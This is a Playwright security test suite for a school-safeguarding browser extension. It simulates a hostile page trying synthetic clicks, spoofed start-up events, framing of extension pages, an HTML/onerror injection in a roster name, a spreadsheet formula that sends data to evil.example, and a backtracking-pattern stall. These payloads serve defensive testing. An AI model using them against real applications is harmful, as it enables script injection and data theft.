import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures';
import { EXTENSION_ID } from '../support/constants';
import { auditLog, choose, hasInterstitial, interstitial, loadSchool, openSite, siteActions } from '../support/contact';
import { hoursAroundNow, setSettings } from '../support/hours';

/**
 * Faults a hostile page can cause. Each case is one test; the suite's reporter prints it as held or
 * LOST and sums them up. Fixture: tests/fixtures/sites/x-profile.html, whose people live in the page's
 * own `PEOPLE` table and are drawn by its `render()`, as X's React app redraws from its store.
 */
const FOLLOW_IN_HEADER = '[data-testid="primaryColumn"] [data-testid$="-follow"]';

/** Changes what the fixture page shows about its people, then redraws it (as X would after a fetch). */
function setPeople(page: Page, script: string): Promise<void> {
  return page.evaluate(`(() => { ${script}; render(); })()`);
}

test.describe('fault: a hostile page', () => {
  test.beforeEach(async ({ context }) => loadSchool(context));

  test('its own synthetic click on a pupil’s Follow is not the staff member’s: no check, no frame, and it ends exactly as one on a stranger does', async ({ context, worker }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    // The site's own handler runs in the same task as the click, for the pupil and for a stranger alike:
    // nothing waited on Chalkline, so the page cannot tell by timing who is on the roster.
    const seen = await page.evaluate(() => {
      const after = (selector: string) => {
        (document.querySelector(selector) as HTMLElement).click();
        return (window as unknown as { __siteActions: unknown[] }).__siteActions.length;
      };
      return [after('[data-testid="primaryColumn"] [data-testid$="-follow"]'), after('[data-testid="1003-follow"]')];
    });
    expect(seen).toEqual([1, 2]);
    expect(await siteActions(page)).toEqual([
      { action: 'follow', who: 'ellie.smith09' },
      { action: 'follow', who: 'jordanrivers' },
    ]);
    // A real click afterwards is still checked, so the guard was there all along.
    await setPeople(page, `following.clear()`);
    await page.locator(FOLLOW_IN_HEADER).click();
    await interstitial(page);
    expect(await auditLog(worker)).toEqual([]);
  });

  test('it cannot tell Chalkline is there from its start-up, nor switch it off by pretending a newer copy started', async ({ context }) => {
    // WXT's content-script context announces each start on the page's window and document (its way of
    // stopping an older copy after an update), named with the extension id: any site could read that,
    // and send the same announcement to stop the guards.
    await context.addInitScript(() => {
      const seen: string[] = ((window as unknown as { __announced: string[] }).__announced = []);
      addEventListener('message', (e) => seen.push(JSON.stringify(e.data)));
      for (const name of ['content-script-started', 'wxt:content-script-started']) document.addEventListener(name, () => seen.push(name));
    });
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    const heard = await page.evaluate(() => (window as unknown as { __announced: string[] }).__announced);
    expect(heard.filter((m) => m.includes(EXTENSION_ID) || m.includes('wxt') || m.includes('social'))).toEqual([]);
    await page.evaluate((id) => {
      const detail = { contentScriptName: 'social', messageId: 'from-the-page' };
      document.dispatchEvent(new CustomEvent(`${id}:social:wxt:content-script-started`, { detail }));
      window.postMessage({ type: `${id}:social:wxt:content-script-started`, ...detail }, '*');
    }, EXTENSION_ID);
    await page.locator(FOLLOW_IN_HEADER).click();
    await expect((await interstitial(page)).getByRole('alertdialog')).toContainText('Eleanor (Ellie) Smith');
    expect(await siteActions(page)).toEqual([]);
  });

  test('a pupil whose bio is 1,000 characters is still checked and held (the bio is cut to what a check reads)', async ({ context }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    await setPeople(page, `PEOPLE['ellie.smith09'].bio = 'Netball and my dog Biscuit. '.repeat(40).slice(0, 1000)`);
    await page.locator(FOLLOW_IN_HEADER).click();
    await expect((await interstitial(page)).getByRole('alertdialog')).toContainText('Eleanor (Ellie) Smith');
    expect(await siteActions(page)).toEqual([]);
  });

  test('a pupil with a 101-character handle is still checked and held', async ({ context }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/jordanrivers');
    const handle = `ellie_${'x'.repeat(95)}`;
    await setPeople(page, `PEOPLE[${JSON.stringify(handle)}] = { id: '1009', name: 'Ellie Smith', bio: 'Year 9' }`);
    await page.locator('[data-testid="1009-follow"]').click();
    await expect((await interstitial(page)).getByRole('alertdialog')).toContainText('Eleanor (Ellie) Smith');
    expect(await siteActions(page)).toEqual([]);
  });

  test('a profile link with a broken % escape is still checked: a parent is warned, not passed', async ({ context }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/jordanrivers');
    await setPeople(page, `PEOPLE['grace%E0%A4%A'] = { id: '1010', name: 'Grace Patel', bio: '' }`);
    await page.locator('[data-testid="1010-follow"]').click();
    await expect((await interstitial(page)).getByRole('alertdialog')).toContainText('parent or carer');
    expect(await siteActions(page)).toEqual([]);
  });

  test('Chalkline’s own pages will not load in a frame the page makes; a warning frame it makes shows nothing held', async ({ context }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/jordanrivers');
    for (const path of ['options.html', 'popup.html', 'review.html', 'blocked.html', 'interstitial.html']) {
      await page.evaluate((src) => {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
      }, `chrome-extension://${EXTENSION_ID}/${path}`);
    }
    // Web-accessible pages only open through their per-session address (use_dynamic_url), so none of these load.
    await expect.poll(() => page.frames().length).toBe(6);
    for (const frame of page.frames().slice(1)) {
      const text = await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '');
      expect(text).not.toMatch(/Chalkline|roster|Eleanor|Report/);
    }
    expect(hasInterstitial(page)).toBe(false);
  });

  test('the page learns the warning frame’s address and frames it again itself: the copy shows nothing and decides nothing', async ({ context, worker }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    await page.locator(FOLLOW_IN_HEADER).click();
    const ours = await interstitial(page);
    const src = await page.evaluate(() => document.querySelector<HTMLIFrameElement>('iframe[src*="/interstitial.html"]')!.src);
    await choose(ours, 'Cancel');
    await expect.poll(() => hasInterstitial(page)).toBe(false);
    // With nothing held, a copy the page makes has nothing to show and no decision to take.
    await page.evaluate((url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      frame.id = 'copy';
      document.body.append(frame);
    }, src);
    const copy = await expect.poll(() => page.frames().find((f) => f.url().endsWith('/interstitial.html'))).toBeTruthy().then(() => page.frames().find((f) => f.url().endsWith('/interstitial.html'))!);
    await expect(copy.getByRole('button', { name: /Continue|Go ahead/ })).toHaveCount(0);
    await expect(copy.locator('body')).not.toContainText('Eleanor');
    expect(await siteActions(page)).toEqual([]);
    expect((await auditLog(worker)).map((e) => e.decision)).toEqual(['cancelled']);
  });

  test('a pupil whose name in the roster is HTML is shown as text, never run, in the warning and in "Check a name"', async ({ context, openExtensionPage }) => {
    const options = await openExtensionPage('options.html#school');
    const roster = 'first_name,last_name,preferred_name,role,year_group\nEleanor,Smith,"<img src=x onerror=""window.top.__pwned=1"">",pupil,Year 9\n';
    await options.getByLabel('Import roster file').setInputFiles({ name: 'roster.csv', mimeType: 'text/csv', buffer: Buffer.from(roster) });
    await options.getByText('The roster was imported').waitFor();
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    await page.locator(FOLLOW_IN_HEADER).click();
    const frame = await interstitial(page);
    await expect(frame.getByRole('alertdialog')).toContainText('<img src=x onerror="window.top.__pwned=1">');
    expect(await frame.locator('img[src="x"]').count()).toBe(0);
    expect(await frame.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await choose(frame, 'Cancel');
    await options.getByLabel('Name', { exact: true }).fill('Eleanor Smith');
    await options.getByRole('button', { name: 'Check', exact: true }).click();
    await expect(options.locator('#check-result')).toContainText('<img src=x');
    expect(await options.locator('img[src="x"]').count()).toBe(0);
  });

  test('a reason typed as a spreadsheet formula is exported as text, not as a formula', async ({ context, openExtensionPage }) => {
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    await page.locator(FOLLOW_IN_HEADER).click();
    const frame = await interstitial(page);
    await frame.getByRole('button', { name: 'They are my relative' }).click();
    await frame.getByLabel('Why is this allowed?').fill('=HYPERLINK("https://evil.example/?"&A1,"Open")');
    await choose(frame, 'Go ahead and keep my reason');
    await expect.poll(() => siteActions(page)).toHaveLength(1);
    const options = await openExtensionPage('options.html#you');
    const log = options.getByRole('region', { name: 'Your log' });
    await expect(log).toContainText('=HYPERLINK(');
    const [download] = await Promise.all([options.waitForEvent('download'), log.getByRole('button', { name: 'Export log (CSV)' }).click()]);
    const csv = (await (await download.createReadStream()).toArray()).join('');
    const reason = csv.split('\r\n')[1]!.split(',relative,')[1];
    expect(reason).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
  });

  test('an official-account pattern built to backtrack, against a 16 kB address, does not stall another tab’s check', async ({ context, worker }) => {
    await setSettings(worker, { workingHours: hoursAroundNow(-60, 120, [], 'warn'), officialAccounts: ['https://x.com/*oak*hill*school*'] });
    // The hostile address: many near-matches and no "school", the worst case for a backtracking matcher.
    const hostile = await openSite(context, 'x', 'profile', `https://x.com/jordanrivers?${'oakhill'.repeat(2300)}`);
    expect(hostile.url().length).toBeGreaterThan(16_000);
    const page = await openSite(context, 'x', 'profile', 'https://x.com/ellie.smith09');
    // The working-hours banner sits over the top of the page: move the profile below it.
    await page.evaluate(() => (document.body.style.paddingTop = '20rem'));
    const clicked = Date.now();
    await page.locator(FOLLOW_IN_HEADER).click();
    await interstitial(page);
    // Before the one-pass matcher this pattern took 128 s and froze every check; a second is generous.
    expect(Date.now() - clicked).toBeLessThan(1000);
  });
});
